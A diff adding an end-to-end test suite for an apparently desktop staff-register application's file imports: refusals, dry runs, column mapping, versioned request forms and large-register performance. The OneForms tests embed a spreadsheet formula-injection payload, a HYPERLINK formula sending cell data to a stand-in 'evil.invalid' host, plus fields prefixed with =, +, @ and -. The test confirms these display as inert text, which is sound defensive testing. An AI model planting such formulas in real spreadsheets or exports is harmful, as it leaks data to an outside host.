@@ -1,0 +1,489 @@
+import { readFileSync, rmSync } from 'node:fs';
+import type { Page } from 'playwright';
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import { type Desk, launchDesk } from '../support/launch-desk.ts';
+import { goTo, openRequest, sampleFile } from '../support/main-job.ts';
+import { badFiles, GO_FULL } from './bad-files.ts';
+import { dropPath } from './drop-path.ts';
+import { goFile, goName, largeTrust } from './go-builder.ts';
+import { ownFiles } from './own-files.ts';
+import {
+  check,
+  choose,
+  createTrust,
+  dryRun,
+  finished,
+  importButton,
+  importWhole,
+  OWNER,
+  putAside,
+  readRefusal,
+  signInAs,
+  standing,
+} from './steps.ts';
+
+// The imports in the real window, on a trust's own store: from an empty one to a register of 30,000 people.
+const files = ownFiles('imports');
+let desk: Desk;
+beforeAll(async () => {
+  desk = await launchDesk();
+  desk.page.setDefaultTimeout(20_000);
+  await createTrust(desk);
+});
+afterEach(async ({ task }) => {
+  if (task.result?.state === 'fail')
+    await desk.screenshot(`failed-${task.name.slice(0, 40).replaceAll(/\W+/g, '-')}`);
+});
+afterAll(() => desk?.close());
+
+const COUNTS = /^[\d,]+ new, [\d,]+ changed, [\d,]+ ended, [\d,]+ failed$/;
+
+describe('the first files', () => {
+  test('a file of changes is refused before the first full one', async () => {
+    const before = await standing(desk);
+    await choose(desk, sampleFile('GO_919_TST_GOC_20261109_00000102.DAT'));
+    await check(desk);
+    expect(await readRefusal(desk)).toMatch(
+      /cannot be imported before the first full file\. Import a full file \(GOF\) first\..*Nothing was changed/,
+    );
+    await putAside(desk);
+    expect(await standing(desk)).toEqual(before);
+  });
+
+  test('the dry run of a full file says what it would do, and writes nothing', async () => {
+    const before = await standing(desk);
+    await choose(desk, sampleFile(GO_FULL));
+    await check(desk);
+    const card = await dryRun(desk);
+    expect(await card.getByRole('status').textContent()).toMatch(COUNTS);
+    expect(await card.getByRole('table', { name: 'Counts by record' }).textContent()).toContain('People');
+    expect(await standing(desk)).toEqual(before);
+    await importButton(desk).click();
+    expect(await finished(desk)).toMatch(/[1-9]\d* new, 0 changed, 0 ended/);
+    expect(await standing(desk)).not.toEqual(before);
+  });
+
+  test('the first holdings ask how to take what ESR shows, and neither answer is given beforehand', async () => {
+    await choose(desk, sampleFile('holdings-1.csv'));
+    await check(desk);
+    const card = await dryRun(desk);
+    const answers = await card.getByRole('radio').all();
+    expect(answers).toHaveLength(2);
+    for (const answer of answers) expect(await answer.isChecked()).toBe(false);
+    expect(await importButton(desk).isDisabled()).toBe(true);
+    await card.getByText('Say first how to take what ESR already shows.').waitFor();
+    const before = await standing(desk);
+    expect(await standing(desk)).toEqual(before);
+    await card.getByRole('radio', { name: /starting position/ }).check();
+    await importButton(desk).click();
+    await finished(desk);
+    await choose(desk, sampleFile('holdings-2.csv'));
+    await check(desk);
+    expect(await (await dryRun(desk)).getByRole('radio').count()).toBe(0);
+    await putAside(desk);
+  });
+});
+
+describe('bad input of any kind gets one clear sentence and changes nothing', () => {
+  test.each(badFiles(files))('$what', async ({ file, kind, says }) => {
+    const before = await standing(desk);
+    await choose(desk, file);
+    const { page } = desk;
+    // Refused at first sight, or only once the whole of it is read.
+    const alert = page.getByRole('alert').filter({ hasText: 'was not taken' });
+    const draft = page.getByLabel('Kind of file');
+    await alert.or(draft).first().waitFor();
+    if (await draft.isVisible()) {
+      if (kind !== undefined) await draft.selectOption(kind);
+      const button = page.getByRole('button', { name: 'Check the file' });
+      await alert
+        .or(page.locator('button:enabled', { hasText: 'Check the file' }))
+        .first()
+        .waitFor();
+      if (!(await alert.isVisible())) await button.click();
+    }
+    const words = await readRefusal(desk);
+    expect(words).toMatch(says);
+    expect(words).toContain('Nothing was changed.');
+    await putAside(desk);
+    expect(await standing(desk)).toEqual(before);
+  });
+
+  test('training said to be holdings lacks its columns, and says which', async () => {
+    await choose(desk, sampleFile('training.csv'));
+    await desk.page.getByLabel('Kind of file').selectOption('holdings');
+    await desk.page.getByText('Choose the column for “Responsibility”.').waitFor();
+    expect(await desk.page.getByRole('button', { name: 'Check the file' }).isDisabled()).toBe(true);
+    await putAside(desk);
+  });
+
+  test('a folder that is dropped', async () => {
+    const before = await standing(desk);
+    await goTo(desk, 'Imports');
+    await dropPath(desk.page, files.makeFolder('a-folder'));
+    expect(await readRefusal(desk)).toMatch(/cannot be read\. Check that it still exists/);
+    expect(await standing(desk)).toEqual(before);
+  });
+
+  test('the control: a file that is dropped is taken', async () => {
+    await dropPath(desk.page, sampleFile('as-numbers.csv'));
+    await desk.page.getByRole('heading', { name: 'as-numbers.csv' }).waitFor();
+    await putAside(desk);
+  });
+
+  test('a file that is gone when it is to be imported', async () => {
+    const file = files.write('going.csv', readFileSync(sampleFile('as-numbers.csv')));
+    await choose(desk, file);
+    await desk.page.getByLabel('When was the extract taken?').fill('2026-11-02T08:00');
+    await check(desk);
+    await dryRun(desk);
+    const before = await standing(desk);
+    rmSync(file);
+    await importButton(desk).click();
+    expect(await readRefusal(desk)).toMatch(/cannot be read\. Check that it still exists/);
+    await putAside(desk);
+    expect(await standing(desk)).toEqual(before);
+  });
+
+  test('a file that has changed since it was checked is checked again first', async () => {
+    const was = readFileSync(sampleFile('as-numbers.csv'), 'latin1');
+    const file = files.write('changing.csv', was);
+    await choose(desk, file);
+    await desk.page.getByLabel('When was the extract taken?').fill('2026-11-02T08:00');
+    await check(desk);
+    await dryRun(desk);
+    const before = await standing(desk);
+    files.write('changing.csv', was.replace('AS200002', 'AS999999'));
+    await importButton(desk).click();
+    expect(await readRefusal(desk)).toMatch(/changed since it was checked\. Check it again, then import it/);
+    expect(await standing(desk)).toEqual(before);
+    await desk.page.getByRole('button', { name: 'Check the file' }).waitFor();
+    await putAside(desk);
+  });
+});
+
+describe('what a table says', () => {
+  test('rows that fail are listed by line and reason, never with what they say; the unknown is listed', async () => {
+    const file = files.write(
+      'holdings-mixed.csv',
+      [
+        'Active Responsibilities',
+        'Run date: 03-Nov-2026 07:15',
+        'Employee Number,User Name,Full Name,Responsibility,Start Date',
+        '2303x721,919ZQLEAK01,"Zqleak, Ms. Row",919 Local Reports,01-Nov-2026',
+        '23030721,919SCLAYTON01,"Zqleak, Ms. Date",919 Local Reports,99-Zqleak-2026',
+        '99887766,919NOBODY01,"Nobody, Ms. Known",919 Local Reports,01-Nov-2026',
+        '23030721,919SCLAYTON01,"Clayton, Ms.",919 Zqwizard Access,01-Nov-2026',
+        '',
+      ].join('\r\n'),
+    );
+    await choose(desk, file);
+    await check(desk);
+    const card = await dryRun(desk);
+    const failures = await card.getByRole('table', { name: 'Failures' }).getByRole('row').allTextContents();
+    expect(failures.slice(1).map((row) => /^\d+/.exec(row)?.[0])).toEqual(['4', '5']);
+    expect(failures.join('\n')).not.toMatch(/zqleak|2303x721/i);
+    for (const row of failures.slice(1))
+      expect(row).toMatch(/Holdings(Employee number is not 8 digits|Start date is not a date)\.$/);
+    const unknown = await card.getByRole('table', { name: 'Unknown' }).textContent();
+    expect(unknown).toMatch(/6Person99887766/);
+    expect(unknown).toMatch(/7AccessZqwizard Access/);
+    await desk.screenshot('imports-dry-run');
+    await putAside(desk);
+  });
+
+  test('a file with foreign headings is matched by hand once, and remembered', async () => {
+    const { page } = desk;
+    const table = (rows: readonly string[]) =>
+      Buffer.from(
+        [
+          'Finance systems – café list',
+          'Printed for the ESR team',
+          'Wer;Kennung;Am;Bemerkung',
+          ...rows,
+          '',
+        ].join('\r\n'),
+        'utf8',
+      );
+    const asWindows1252 = (utf8: Buffer) =>
+      Buffer.from(utf8.toString('utf8').replaceAll('–', '\u0096'), 'latin1');
+    const first = files.write(
+      'finance.csv',
+      asWindows1252(table(['23030721;AS777001;03/04/2026;café', '23005242;AS777002;25/12/2025;façade'])),
+    );
+    await choose(desk, first);
+    await page.getByLabel('Kind of file').selectOption('as-numbers');
+    await page.getByText(/Headings on line 3, windows-1252, separated by semicolons/).waitFor();
+    await page.getByLabel('Column for Employee number').selectOption('Wer');
+    await page.getByLabel('Column for AS number').selectOption('Kennung');
+    await page.getByLabel('Column for Issued on').selectOption('Am');
+    await page.getByLabel('When was the extract taken?').fill('2026-11-03T08:00');
+    await desk.screenshot('imports-mapping');
+    await check(desk);
+    expect(await (await dryRun(desk)).getByRole('status').textContent()).toMatch(
+      /^2 new, 0 changed, \d+ ended, 0 failed$/,
+    );
+    await importButton(desk).click();
+    await finished(desk);
+    const person = await page.evaluate(async () => {
+      const answer = await window.api.register.getPerson({ employeeNumber: '23030721' });
+      return answer.ok ? JSON.stringify(answer.data) : answer.code;
+    });
+    expect(person).toContain('AS777001');
+    expect(person).toContain('2026-04-03');
+
+    const second = files.write(
+      'finance-later.csv',
+      asWindows1252(table(['23030721;AS777003;04/04/2026;café'])),
+    );
+    await choose(desk, second);
+    await page.getByLabel('Kind of file').selectOption('as-numbers');
+    await page.getByText('Columns as last time.').waitFor();
+    expect(await page.getByLabel('Column for AS number').inputValue()).toBe('Kennung');
+    expect(await page.getByLabel('Column for Issued on').inputValue()).toBe('Am');
+    await putAside(desk);
+  });
+});
+
+describe('OneForms', () => {
+  const FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"Click")';
+  const CSV_HEAD =
+    'Reference,Submitted At,Requester Name,Requester Employee Number,Beneficiary Number,Beneficiary Name,Access Requested,Justification,Line Manager Name,Line Manager Employee Number,Line Manager Authorised,Authorised By,Authorised By Employee Number,Authorised At,Attachments';
+  const csv = `${CSV_HEAD}\r\nSR9000001,02/11/2026 09:00,+Requester,23005242,23030721,@Beneficiary,Local Reports,"${FORMULA.replaceAll('"', '""')}",-Manager,23046996,Yes,-Manager,23046996,02/11/2026 10:00,=form.pdf\r\n`;
+  const revised = {
+    source: 'Service Desk portal',
+    exportedAt: '2026-11-04T07:30:00+00:00',
+    forms: [
+      {
+        reference: 'SR9000001',
+        submittedAt: '2026-11-02T09:00:00+00:00',
+        requester: { name: '+Requester', employeeNumber: '23005242' },
+        beneficiary: { number: '23030721', name: '@Beneficiary' },
+        accessRequested: 'Local BI Reports',
+        justification: 'The monthly board report is written by this post.',
+        lineManager: { name: '-Manager', employeeNumber: '23046996' },
+        authorisation: {
+          authorised: true,
+          by: '-Manager',
+          byEmployeeNumber: '23046996',
+          at: '2026-11-02T10:00:00+00:00',
+        },
+        attachments: ['=form.pdf'],
+      },
+    ],
+  };
+
+  test('imported twice are there once', async () => {
+    const file = files.write('oneforms-again.csv', csv);
+    expect(await importWhole(desk, file)).toMatch(/1 new, 0 changed, 0 ended, 0 failed/);
+    const { requests } = await standing(desk);
+    expect(requests).toMatchObject({ total: 1 });
+    await choose(desk, file);
+    await check(desk);
+    await (await dryRun(desk)).getByText('This is the file that was imported last.').waitFor();
+    await importButton(desk).click();
+    expect(await finished(desk)).toMatch(/0 new, 0 changed, 0 ended, 0 failed/);
+    expect((await standing(desk)).requests).toEqual(requests);
+  });
+
+  test('what looks like a formula is shown, and copied, as the text it is', async () => {
+    const { page } = desk;
+    await openRequest(desk, 'SR9000001');
+    const card = page.getByRole('region', { name: 'OneForm, version 1' });
+    const written = card.getByText(FORMULA, { exact: true });
+    await written.waitFor();
+    expect(await card.getByRole('link').count()).toBe(0);
+    for (const text of ['+Requester (23005242)', '@Beneficiary (23030721)', '=form.pdf'])
+      await card.getByText(text, { exact: true }).waitFor();
+    await desk.app.evaluate(async ({ clipboard }) => clipboard.writeText('before'));
+    await written.click({ clickCount: 3 });
+    await page.keyboard.press('Control+c');
+    const copied = () => desk.app.evaluate(async ({ clipboard }) => clipboard.readText());
+    await expect.poll(async () => (await copied()).trim()).toBe(FORMULA);
+    await desk.screenshot('imports-formula');
+  });
+
+  test('a changed form is version 2 of the same request, with what changed', async () => {
+    const { page } = desk;
+    const file = files.write('oneforms-revised.json', JSON.stringify(revised));
+    expect(await importWhole(desk, file)).toMatch(/0 new, 1 changed, 0 ended, 0 failed/);
+    expect((await standing(desk)).requests).toMatchObject({ total: 1 });
+    await openRequest(desk, 'SR9000001');
+    const card = page.getByRole('region', { name: 'OneForm, version 2' });
+    await card.getByRole('button', { name: /^Version 2,/ }).click();
+    const changed = card.getByRole('table', { name: 'What changed' });
+    await changed.waitFor();
+    await changed.locator('del', { hasText: FORMULA }).waitFor();
+    await changed.locator('ins', { hasText: 'The monthly board report' }).waitFor();
+    await changed.locator('ins', { hasText: 'Local BI Reports' }).waitFor();
+    expect(await changed.getByRole('row').count()).toBe(3);
+    await desk.screenshot('imports-version-2');
+  });
+});
+
+describe('a register of 30,000 people', () => {
+  const name = goName(101);
+  const large = files.write(name, goFile(name, largeTrust(30_000)), 'large');
+  const huge = files.write(name, goFile(name, largeTrust(120_000)), 'huge');
+  const phase = (words: RegExp) =>
+    desk.page.getByRole('region', { name: 'Work in progress' }).getByText(words).waitFor();
+
+  test('its check can be cancelled', async () => {
+    const before = await standing(desk);
+    await choose(desk, large);
+    await check(desk);
+    await desk.page.getByRole('button', { name: 'Cancel the check' }).click();
+    await desk.page.getByText('Cancelled. Nothing was written.').waitFor();
+    expect(await standing(desk)).toEqual(before);
+  });
+
+  test('the window goes on while it is checked and imported, and a cancel amid the writing changes nothing', async () => {
+    const { page } = desk;
+    const before = await standing(desk);
+    await watchFrames(page);
+    await check(desk);
+    await phase(/Reading the file · [\d,]+ rows/);
+    await desk.screenshot('imports-progress');
+    expect(await (await dryRun(desk)).getByRole('status').textContent()).toMatch(/new, .* ended, 0 failed$/);
+    const cancelled = whenWriting(page, 'cancel');
+    await importButton(desk).click();
+    await phase(/Reading the file · [\d,]+ rows/);
+    // The queue is read and filtered meanwhile, as on any other day.
+    await goTo(desk, 'Requests');
+    await page.keyboard.press('/');
+    await page.keyboard.type('SR9');
+    await page.getByRole('row', { name: /SR9000001/ }).waitFor();
+    await page.getByRole('button', { name: 'Clear filter' }).click();
+    await cancelled;
+    const frames = await longestFrame(page);
+    console.log(`longest frame ${frames.longest.toFixed(0)} ms of ${frames.count}`);
+    await goTo(desk, 'Imports');
+    await page.getByText('Cancelled. Nothing was written.').waitFor();
+    expect(await standing(desk)).toEqual(before);
+    expect(frames.count).toBeGreaterThan(30);
+    expect(frames.longest).toBeLessThan(500);
+  });
+
+  test('a second long work is told in words what it waits for', async () => {
+    const { page } = desk;
+    await putAside(desk);
+    await choose(desk, huge);
+    await check(desk);
+    await phase(/Reading the file · [\d,]+ rows/);
+    expect(await page.locator('input[type=file]').first().isDisabled()).toBe(true);
+    const answer = await secondImport(page, sampleFile('as-numbers.csv'));
+    expect(answer).toMatchObject({ ok: false, code: 'BUSY' });
+    expect(answer).toHaveProperty(
+      'message',
+      `“Checking ${name}” is still running. Wait for it, or cancel it first.`,
+    );
+    await goTo(desk, 'Ledger');
+    await page.getByRole('button', { name: /^Verify/ }).click();
+    await page.getByText(/is still running\. Wait for it, or cancel it first\./).waitFor();
+    await desk.screenshot('imports-busy');
+    const bar = page.getByRole('region', { name: 'Work in progress' });
+    await bar.getByRole('button', { name: 'Cancel' }).click();
+    await bar.waitFor({ state: 'detached' });
+    await goTo(desk, 'Imports');
+    await page.getByText('Cancelled. Nothing was written.').waitFor();
+    await putAside(desk);
+  });
+
+  test('a lock amid the writing ends it and changes nothing', async () => {
+    const { page } = desk;
+    await choose(desk, large);
+    await check(desk);
+    await dryRun(desk);
+    const { ledger: _before, ...before } = await standing(desk);
+    const locked = whenWriting(page, 'lock');
+    await importButton(desk).click();
+    await locked;
+    await page.getByLabel('Username').waitFor();
+    await page.getByText('It was locked by hand.').waitFor();
+    expect(await page.getByRole('region', { name: 'Work in progress' }).count()).toBe(0);
+    await signInAs(desk, OWNER);
+    const { ledger: _after, ...after } = await standing(desk);
+    expect(after).toEqual(before);
+    await goTo(desk, 'Imports');
+    expect(await importButton(desk).count()).toBe(0);
+  });
+
+  test('it is imported whole in the end', async () => {
+    expect(await importWhole(desk, large)).toMatch(/[\d]+ new, \d+ changed, \d+ ended, 0 failed/);
+    expect((await standing(desk)).sources).toMatchObject({
+      sources: expect.arrayContaining([expect.objectContaining({ kind: 'go' })]),
+    });
+  });
+});
+
+/** Does it as a person would, but at the first word of the writing, which may be over before a hand has moved. */
+function whenWriting(page: Page, what: 'cancel' | 'lock'): Promise<void> {
+  return page.evaluate(
+    (todo) =>
+      new Promise<void>((done) => {
+        const stop = window.api.on('jobs:progress', ({ phase }) => {
+          if (phase !== 'Writing') return;
+          stop();
+          const press = { key: 'l', code: 'KeyL', ctrlKey: true, bubbles: true };
+          if (todo === 'lock') document.body.dispatchEvent(new KeyboardEvent('keydown', press));
+          else
+            document
+              .querySelector<HTMLButtonElement>('section[aria-label="Work in progress"] button')
+              ?.click();
+          done();
+        });
+      }),
+    what,
+  );
+}
+
+async function watchFrames(page: Page): Promise<void> {
+  await page.evaluate(() => {
+    const seen = { longest: 0, count: 0, last: performance.now(), on: true };
+    Object.assign(window, { seenFrames: seen });
+    const frame = (): void => {
+      const now = performance.now();
+      seen.longest = Math.max(seen.longest, now - seen.last);
+      seen.last = now;
+      seen.count += 1;
+      if (seen.on) requestAnimationFrame(frame);
+    };
+    requestAnimationFrame(frame);
+  });
+}
+
+async function longestFrame(page: Page): Promise<{ readonly longest: number; readonly count: number }> {
+  return page.evaluate(() => {
+    const { seenFrames: seen } = window as unknown as {
+      seenFrames: { longest: number; count: number; on: boolean };
+    };
+    seen.on = false;
+    return { longest: seen.longest, count: seen.count };
+  });
+}
+
+/** Offers and checks a file past the screen, which takes no second one while it works. */
+async function secondImport(page: Page, file: string): Promise<unknown> {
+  await page.evaluate(() => {
+    const input = document.createElement('input');
+    input.type = 'file';
+    input.id = 'second-import';
+    document.body.append(input);
+  });
+  await page.locator('#second-import').setInputFiles(file);
+  return page.evaluate(async () => {
+    const input = document.querySelector<HTMLInputElement>('#second-import');
+    const chosen = input?.files?.item(0);
+    if (chosen === null || chosen === undefined) throw new Error('no file was chosen');
+    const offered = await window.api.imports.offerFile(chosen);
+    input?.remove();
+    if (!offered.ok) return offered;
+    return window.api.imports.preview({
+      fileId: offered.data.fileId,
+      kind: 'as-numbers',
+      mapping: null,
+      takenAt: '2026-11-02T08:00:00.000Z',
+      startingPosition: null,
+    });
+  });
+}
